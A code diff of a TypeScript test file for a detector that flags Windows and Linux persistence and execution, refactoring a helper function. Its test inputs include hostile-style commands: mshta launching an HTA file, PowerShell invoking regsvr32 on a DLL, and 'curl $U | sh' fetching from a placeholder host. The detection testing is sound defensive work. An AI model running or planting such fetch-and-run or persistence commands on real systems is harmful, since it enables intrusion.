@@ -1,17 +1,11 @@
 import { describe, expect, it } from "vitest";
-import { anEvent, testCatalog } from "../../test/support/events.ts";
-import type { Event } from "../model/event.ts";
-import { createDetector } from "./detector.ts";
-
-function find(events: readonly Event[]) {
-  const detector = createDetector({ catalog: testCatalog(), minLevel: "low" });
-  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
-}
+import { anEvent } from "../../test/support/events.ts";
+import { findingsOf } from "../../test/support/findings.ts";
 
 it("sees what a document that a shortcut leads to is opened with, unless it only was open before", () => {
   const link = (path: string) => {
     const told = { target: "C:\\Users\\Public\\a.hta", arguments: undefined, startup: false, oddities: [] };
-    return find([anEvent("shortcut", 0, { path, ...told })])[0];
+    return findingsOf([anEvent("shortcut", 0, { path, ...told })])[0];
   };
   expect(link("C:\\Users\\a\\Desktop\\x.lnk")).toMatchObject({
     binary: { name: "mshta.exe" },
@@ -22,7 +16,7 @@ it("sees what a document that a shortcut leads to is opened with, unless it only
 
 it("says nothing of a registered verb that runs only what is opened with it", () => {
   const verb = (commandLine: string) =>
-    find([
+    findingsOf([
       anEvent("runKey", 0, {
         path: "HKCR\\htafile\\shell\\open\\command\\(Default)",
         commandLine,
@@ -35,7 +29,7 @@ it("says nothing of a registered verb that runs only what is opened with it", ()
 
 it("says in words what a command stands in", () => {
   const told = (origin: string) =>
-    find([
+    findingsOf([
       anEvent("commandExecution", 0, {
         text: "mshta C:\\Users\\Public\\a.hta",
         dialect: "commandLine",
@@ -53,9 +47,9 @@ it("says in words what a command stands in", () => {
 
 describe("what is set up and whose program nobody knows", () => {
   const service = (text: string) =>
-    find([anEvent("commandExecution", 0, { text, dialect: "commandLine", origin: "service", name: "k7" })])[0];
+    findingsOf([anEvent("commandExecution", 0, { text, dialect: "commandLine", origin: "service", name: "k7" })])[0];
   const task = (commandLine: string) =>
-    find([anEvent("scheduledTask", 0, { commandLine, dialect: "commandLine", name: "k7" })])[0];
+    findingsOf([anEvent("scheduledTask", 0, { commandLine, dialect: "commandLine", name: "k7" })])[0];
   it("is told of by where the program lies", () => {
     expect(service("C:\\Users\\Public\\k.exe -s")).toMatchObject({
       behaviour: "windows/sc/service",
@@ -80,7 +74,7 @@ describe("what is set up and whose program nobody knows", () => {
 it("weighs a task that is turned off less, and does not say that it runs", () => {
   const of = (trigger: string | undefined) => {
     const task = { name: "\\t", path: "a.xml", commandLine: "mshta.exe C:\\Users\\Public\\a.hta", trigger };
-    return find([anEvent("scheduledTask", 0, { ...task, platform: "windows", dialect: "commandLine" })])[0];
+    return findingsOf([anEvent("scheduledTask", 0, { ...task, platform: "windows", dialect: "commandLine" })])[0];
   };
   const [on, off] = [of("TimeTrigger"), of("turned off")];
   expect(on!.score).toBeGreaterThan(off!.score);
@@ -92,13 +86,15 @@ it("weighs a task that is turned off less, and does not say that it runs", () =>
 it("takes quotes for a part of the code where the engine names its host", () => {
   const text =
     'powershell.exe -nop & {$p = "C:\\Users\\Public\\m.dll"\nStart-Process regsvr32.exe -ArgumentList "/s $p"}';
-  const [finding] = find([anEvent("commandExecution", 0, { text, dialect: "commandLine", origin: "hostApplication" })]);
+  const [finding] = findingsOf([
+    anEvent("commandExecution", 0, { text, dialect: "commandLine", origin: "hostApplication" }),
+  ]);
   expect(finding).toMatchObject({ binary: { name: "regsvr32.exe" }, runs: [{ value: "C:\\Users\\Public\\m.dll" }] });
 });
 
 it("resolves the command of a job with the variables that its file sets", () => {
   const job = (env: Readonly<Record<string, string>> | undefined) =>
-    find([
+    findingsOf([
       anEvent("scheduledTask", 0, { platform: "linux", commandLine: "curl $U | sh", dialect: "sh", trigger: "x", env }),
     ])[0];
   expect(JSON.stringify(job({ U: "http://192.0.2.1/a" }))).toContain("192.0.2.1");
@@ -108,7 +104,7 @@ it("resolves the command of a job with the variables that its file sets", () => 
 it("sees what Windows will open at every logon as somebody puts it there", () => {
   const startup = "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";
   const put = (path: string, action: "create" | "delete" = "create") =>
-    find([anEvent("fileCreation", 0, { path, action })])[0];
+    findingsOf([anEvent("fileCreation", 0, { path, action })])[0];
   expect(put(`${startup}\\a.hta`)).toMatchObject({
     binary: { name: "mshta.exe" },
     runs: [{ value: `${startup}\\a.hta` }],
